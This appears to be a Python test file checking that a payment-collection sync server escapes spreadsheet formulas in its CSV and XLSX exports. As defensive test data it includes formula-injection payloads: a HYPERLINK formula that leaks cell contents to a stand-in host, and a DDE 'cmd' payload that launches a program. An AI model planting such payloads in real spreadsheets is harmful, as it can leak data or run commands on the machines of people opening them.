"""No text from a laptop reaches a supervisor's spreadsheet as a formula: the shared cell rule,
and every CSV and XLSX export of the real server read back."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from sync.protocol import sheets
from sync.protocol.sheets import FORMULA_START, TEXT_MARK
from sync.server import admin
from tests.sync.conftest import Server, household, member, new_id, pledge, receipt
from tests.sync.sheetcheck import csv_rows, live_csv_fields, live_xlsx_cells, texts, xlsx_book
from tests.sync.test_handovers import handover
from tests.sync.test_web import add_supervisor, signed_in

COMMUNE = "04001"
PAYER = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
ISSUED_BY = "+Trần Thị Bình"
AGENT = "@Lò Thị Mai"
DEVICE = "-máy Bản Phố"
REASON = "=cmd|' /C calc'!A0"
SHORT = -50_000

formula_text = st.builds(
    lambda start, rest: start + rest, st.sampled_from(FORMULA_START), st.text()
)
other_text = st.text().filter(lambda t: not t.startswith(FORMULA_START))
# Spreadsheets hold numbers as doubles: amounts of any size a province handles, either sign.
amount = st.integers(min_value=-(10**15), max_value=10**15)


# -- the rule -----------------------------------------------------------------------------------


@given(formula_text)
def test_text_that_starts_a_formula_is_marked_as_text(text: str) -> None:
    """Any text with a formula's first character gets the apostrophe and keeps all of itself."""
    safe = sheets.cell(text)
    assert isinstance(safe, str)
    assert not safe.startswith(FORMULA_START)
    assert safe == TEXT_MARK + text


@given(other_text)
def test_other_text_is_left_alone(text: str) -> None:
    """Text that starts no formula (names, dates, an apostrophe already) is written as it is."""
    assert sheets.cell(text) == text


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_numbers_stay_numbers(value: object) -> None:
    """An amount of -5 đồng is a number: it stays one, so a sum over the column counts it."""
    assert sheets.cell(value) is value
    assert sheets.xlsx_cell(value) is value


@given(st.lists(st.one_of(formula_text, other_text, amount), min_size=1, max_size=6))
def test_a_csv_row_reads_back_with_no_formula(row: list[Any]) -> None:
    """Written with the rule and read back by a CSV reader: no field starts a formula but a
    number, and each text is the original after the apostrophe."""
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerow([sheets.cell(v) for v in row])
    [back] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert live_csv_fields([back]) == []
    for original, field in zip(row, back, strict=True):
        if isinstance(original, int):
            assert field == str(original)
        else:
            assert field in (original, TEXT_MARK + original)


@settings(max_examples=50, deadline=None)
@given(st.lists(st.one_of(formula_text, other_text, amount), min_size=1, max_size=6))
def test_an_xlsx_row_reads_back_with_no_formula(row: list[Any]) -> None:
    """Written with the rule by openpyxl and read back: no formula, numbers as numbers, text
    whole (control characters XLSX cannot hold shown as U+FFFD)."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([sheets.xlsx_cell(v) for v in row])
    out = io.BytesIO()
    book.save(out)
    back = xlsx_book(out.getvalue())
    assert live_xlsx_cells(back) == []
    values = next(back.worksheets[0].iter_rows(values_only=True))
    for original, value in zip(row, values, strict=True):
        if isinstance(original, int):
            assert value == original
        elif original == "":
            assert value is None
        else:
            # XML reads a carriage return back as a line feed; the text is otherwise whole.
            expected = str(sheets.xlsx_cell(original)).replace("\r\n", "\n").replace("\r", "\n")
            assert value == expected


def test_a_control_character_does_not_stop_an_xlsx_export() -> None:
    """A stray control character (pasted into a note) cannot be held by XLSX: it is shown as
    U+FFFD instead of failing the whole workbook."""
    assert sheets.xlsx_cell("Bản\x01 Phố") == "Bản\ufffd Phố"
    assert sheets.xlsx_cell("\x0b=1+1") == "\ufffd=1+1"
    assert sheets.cell("Bản\x01 Phố") == "Bản\x01 Phố"


# -- the server's exports -----------------------------------------------------------------------


def _hostile_month(server: Server) -> None:
    """An agent and device whose names, a receipt's payer and issuer, and a handover's reason
    each start a formula; a target so the agent is in the progress table."""
    add_supervisor(server, "tinh", "admin", [])
    agent = server.add_agent(AGENT, [COMMUNE])
    book = server.add_book(agent, "AA/26", 1, 50)
    with server.engine.begin() as conn:
        admin.set_target(
            conn, agent_id=agent, scheme="bhyt", month="2026-11", count=4, clock=server.clock
        )
    laptop = server.laptop(agent, DEVICE)
    home = household(COMMUNE, village="Bản Phố")
    person = member(home["id"])
    promise = pledge(home["id"], person["id"])
    bill = receipt(
        home["id"], book, 1, pledge_ids=[promise["id"]], payer_name=PAYER, issued_by=ISSUED_BY
    )
    paid = {
        "id": new_id(),
        "pledge_id": promise["id"],
        "status": "paid",
        "at": "2026-11-23T08:10:00.000Z",
        "reason": None,
        "receipt_id": bill["id"],
    }
    short = handover(handed_over=3_059_100 + SHORT, difference=SHORT, reason=REASON)
    ack = laptop.send(
        laptop.record("household", home),
        laptop.record("member", person),
        laptop.record("pledge", promise),
        laptop.record("receipt", bill),
        laptop.record("pledge_event", paid),
        laptop.record("cash_handover", short),
    )
    assert ack["refused"] == [], ack["refused"]


EXPORTS = (
    "/web/export/receipts.{kind}",
    "/web/export/handovers.{kind}?month=2026-11",
    "/web/export/progress.{kind}?month=2026-11",
)


def test_server_exports_hold_no_formula(server: Server) -> None:
    """Every CSV and XLSX export of the supervisor pages, read back: no cell starts a formula,
    each hostile text is there behind an apostrophe, amounts (a shortfall too) are numbers."""
    _hostile_month(server)
    with signed_in(server, "tinh") as client:
        csvs = {url: csv_rows(client.get(url.format(kind="csv")).content) for url in EXPORTS}
        books = {url: xlsx_book(client.get(url.format(kind="xlsx")).content) for url in EXPORTS}
    for url, rows in csvs.items():
        assert live_csv_fields(rows) == [], url
        assert len(rows) > 1, url
    for url, book in books.items():
        assert live_xlsx_cells(book) == [], url

    receipts_url, handovers_url, progress_url = EXPORTS
    fields = {f for row in csvs[receipts_url] for f in row}
    assert {TEXT_MARK + PAYER, TEXT_MARK + ISSUED_BY} <= fields
    assert {TEXT_MARK + PAYER, TEXT_MARK + ISSUED_BY} <= texts(books[receipts_url])
    expected = {TEXT_MARK + AGENT, TEXT_MARK + DEVICE, TEXT_MARK + REASON}
    assert expected <= {f for row in csvs[handovers_url] for f in row}
    assert expected <= texts(books[handovers_url])
    assert TEXT_MARK + AGENT in {f for row in csvs[progress_url] for f in row}
    assert TEXT_MARK + AGENT in texts(books[progress_url])

    # Numbers stay numbers: the shortfall is -50000 in the CSV and the integer in the workbook.
    [handed] = [r for r in csvs[handovers_url][1:] if TEXT_MARK + REASON in r]
    assert str(SHORT) in handed
    sheet = books[handovers_url].worksheets[0]
    [row] = [r for r in sheet.iter_rows(min_row=2, values_only=True) if TEXT_MARK + REASON in r]
    assert SHORT in row and 3_059_100 in row
    sheet = books[receipts_url].worksheets[0]
    assert [r[3] for r in sheet.iter_rows(min_row=2, values_only=True)] == [1_366_200]
